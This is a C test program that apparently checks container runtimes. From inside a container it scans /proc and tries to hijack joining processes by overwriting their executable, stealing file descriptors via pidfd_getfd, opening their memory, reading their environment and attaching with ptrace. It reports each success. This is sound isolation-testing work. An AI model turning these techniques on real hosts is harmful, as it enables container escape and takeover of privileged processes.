/* SPDX-License-Identifier: MIT */
/*
 * Lives in a container and goes for whoever comes in: join-hostile PAYLOAD [CAPS]. One process for each kind
 * of attack looks at all processes that /proc shows, again and again, from the first line on standard input
 * to its end; each line is answered with "done" when all have been through twice. PAYLOAD is the program that
 * those who join are to run; CAPS (hexadecimal) the capabilities that it has and we could take from it.
 * Without CAPS whatever we reach of somebody who is not PAYLOAD yet is a gain.
 * "GAINED what of whom", each what once; at the end "tried KIND n" for each kind, "newcomers n", "helpers n".
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

enum { KINDS = 6, HELD = 32, PIDS = 1 << 16 };

static struct shared {
    unsigned long tried[KINDS], rounds[KINDS], helpers, newcomers;
    unsigned gained;
    unsigned char seen[PIDS], early[PIDS];
} *shared;

static struct stat payload;
static const char *payload_name;
static unsigned long long allowed;
static pid_t family[KINDS + 1];

static int read_text(pid_t pid, const char *name, char *text, size_t size)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, text, size - 1);
    if (fd >= 0)
        close(fd);
    text[n > 0 ? n : 0] = '\0';
    return n > 0;
}

/* It has not become the payload yet: asked after an attack, so that the attack met it before that. */
static int is_helper(pid_t pid)
{
    char comm[32];
    if (!read_text(pid, "comm", comm, sizeof comm))
        return 0;
    comm[strcspn(comm, "\n")] = '\0';
    return strncmp(comm, payload_name, 15) != 0;
}

static unsigned long long capabilities(pid_t pid)
{
    char text[4096];
    if (!read_text(pid, "status", text, sizeof text))
        return 0;
    const char *line = strstr(text, "CapPrm:");
    return line ? strtoull(line + 7, NULL, 16) : 0;
}

static void gain(const char *what, pid_t pid)
{
    char line[128], comm[32];
    static const char *said[8]; /* each once: nobody reads our output before the end */
    unsigned i = 0;
    __atomic_add_fetch(&shared->gained, 1, __ATOMIC_RELAXED);
    while (i < 8 && said[i] != NULL) {
        if (said[i++] == what)
            return;
    }
    if (i < 8)
        said[i] = what;
    read_text(pid, "comm", comm, sizeof comm);
    comm[strcspn(comm, "\n")] = '\0';
    int n = snprintf(line, sizeof line, "GAINED %s of %s\n", what, comm);
    if (write(1, line, (size_t)n) != n)
        _exit(1);
}

/* A process that we may look into is a gain, unless it is the payload, or no more than that. */
static void reached(const char *what, pid_t pid, unsigned long long caps)
{
    if (is_helper(pid) && (allowed == 0 || (caps & ~allowed) != 0))
        gain(what, pid);
}

/* -- the attacks, one newcomer each ---------------------------------------------------------- */

static int held[HELD];
static unsigned held_count;

static int overwrite(const char *path)
{
    char byte;
    int fd = open(path, O_RDWR | O_CLOEXEC);
    /* With what is there already: nothing is destroyed. */
    int wrote = fd >= 0 && pread(fd, &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1;
    if (fd >= 0)
        close(fd);
    return wrote;
}

/* While it runs it is busy: so it is kept, and tried again. */
static void attack_exe(pid_t pid)
{
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0 || fstat(fd, &st) < 0 || (st.st_dev == payload.st_dev && st.st_ino == payload.st_ino)) {
        if (fd >= 0)
            close(fd);
        return;
    }
    if (overwrite(path))
        gain("exe", pid);
    if (held[held_count % HELD] > 0)
        close(held[held_count % HELD]);
    held[held_count++ % HELD] = fd;
}

static void try_held(void)
{
    char path[64];
    for (int i = 0; i < HELD; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        if (held[i] > 0 && overwrite(path))
            gain("exe", getpid());
    }
}

/* A descriptor that no payload should have: all but sockets and pipes, which lead to its parent. */
static void judge_descriptor(const char *what, pid_t pid, int fd)
{
    struct statfs fs;
    struct stat st;
    if (fstat(fd, &st) == 0 && fstatfs(fd, &fs) == 0 && !S_ISSOCK(st.st_mode) && !S_ISFIFO(st.st_mode))
        gain(what, pid);
    else if (allowed == 0)
        gain(what, pid);
}

static void attack_fd(pid_t pid)
{
    char path[64];
    for (int n = 3; n < 24; n++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        judge_descriptor("fd", pid, fd);
        close(fd);
    }
}

static void attack_getfd(pid_t pid)
{
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int n = 3; pidfd >= 0 && n < 24; n++) {
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
        if (fd < 0)
            continue;
        judge_descriptor("getfd", pid, fd);
        close(fd);
    }
    if (pidfd >= 0)
        close(pidfd);
}

static void attack_mem(pid_t pid)
{
    char path[64];
    unsigned long long caps = capabilities(pid);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return;
    reached("mem", pid, caps);
    close(fd);
}

/* The links are given away a moment before an execve(2) is done; what waits for its end is asked too. */
static void attack_links(pid_t pid)
{
    static const char *const names[] = {"cwd", "root", "ns/mnt", "maps"};
    char path[64];
    unsigned long long caps = capabilities(pid);
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        int last = fd < 0 ? -1 : open(path, O_RDONLY | O_CLOEXEC);
        if (last >= 0) {
            reached(names[i], pid, caps);
            close(last);
        }
        if (fd >= 0)
            close(fd);
    }
}

static void attack_trace(pid_t pid)
{
    int status;
    unsigned long long caps = capabilities(pid);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return;
    reached("trace", pid, caps);
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid &&
        WIFSTOPPED(status))
        ptrace(PTRACE_DETACH, pid, 0, 0);
}

static const struct kind {
    const char *name;
    void (*attack)(pid_t pid);
} kinds[KINDS] = {
    {"exe", attack_exe}, {"fd", attack_fd},   {"getfd", attack_getfd},
    {"mem", attack_mem}, {"links", attack_links}, {"trace", attack_trace},
};

/* -------------------------------------------------------------------------------------------- */

static int is_family(pid_t pid)
{
    for (int i = 0; i <= KINDS; i++) {
        if (family[i] == pid)
            return 1;
    }
    return 0;
}

static void look_round(int kind)
{
    struct dirent *entry;
    DIR *dir = opendir("/proc");
    while (dir && (entry = readdir(dir)) != NULL) {
        pid_t pid = isdigit((unsigned char)entry->d_name[0]) ? atoi(entry->d_name) : 0;
        if (pid <= 1 || is_family(pid) || pid > family[0] + KINDS + PIDS - 1)
            continue;
        if (__atomic_exchange_n(&shared->seen[pid % PIDS], 1, __ATOMIC_RELAXED) == 0)
            __atomic_add_fetch(&shared->newcomers, 1, __ATOMIC_RELAXED);
        if (is_helper(pid) && __atomic_exchange_n(&shared->early[pid % PIDS], 1, __ATOMIC_RELAXED) == 0)
            __atomic_add_fetch(&shared->helpers, 1, __ATOMIC_RELAXED);
        __atomic_add_fetch(&shared->tried[kind], 1, __ATOMIC_RELAXED);
        kinds[kind].attack(pid);
    }
    if (dir)
        closedir(dir);
    if (kinds[kind].attack == attack_exe)
        try_held();
    __atomic_add_fetch(&shared->rounds[kind], 1, __ATOMIC_RELAXED);
}

static void wait_for_rounds(void)
{
    for (int kind = 0; kind < KINDS; kind++) {
        unsigned long wanted = __atomic_load_n(&shared->rounds[kind], __ATOMIC_RELAXED) + 2;
        while (__atomic_load_n(&shared->rounds[kind], __ATOMIC_RELAXED) < wanted)
            usleep(1000);
    }
    puts("done");
    fflush(stdout);
}

static void start(int kind, int barrier)
{
    family[kind + 1] = fork();
    if (family[kind + 1] != 0)
        return;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    /* Until it begins; who we all are comes down the pipe. */
    if (read(barrier, &family, sizeof family) != sizeof family)
        _exit(1);
    for (;;)
        look_round(kind);
}

int main(int argc, char **argv)
{
    char line[64];
    int barrier[2];
    shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (argc < 2 || shared == MAP_FAILED || stat(argv[1], &payload) < 0 || pipe(barrier) < 0)
        return 64;
    payload_name = strrchr(argv[1], '/') + 1;
    allowed = argc > 2 ? strtoull(argv[2], NULL, 16) : 0;
    family[0] = getpid();
    for (int kind = 0; kind < KINDS; kind++)
        start(kind, barrier[0]);
    puts("ready");
    fflush(stdout);
    if (!fgets(line, sizeof line, stdin))
        return 65;
    for (int kind = 0; kind < KINDS; kind++) {
        if (write(barrier[1], &family, sizeof family) != sizeof family)
            return 66;
    }
    do
        wait_for_rounds();
    while (fgets(line, sizeof line, stdin));
    for (int kind = 0; kind < KINDS; kind++)
        kill(family[kind + 1], SIGKILL);
    while (wait(NULL) > 0)
        continue;
    for (int kind = 0; kind < KINDS; kind++)
        printf("tried %s %lu\n", kinds[kind].name, shared->tried[kind]);
    printf("newcomers %lu\nhelpers %lu\n", shared->newcomers, shared->helpers);
    printf("gained %u\nend\n", shared->gained);
    return fflush(stdout) == 0 ? 0 : 1;
}
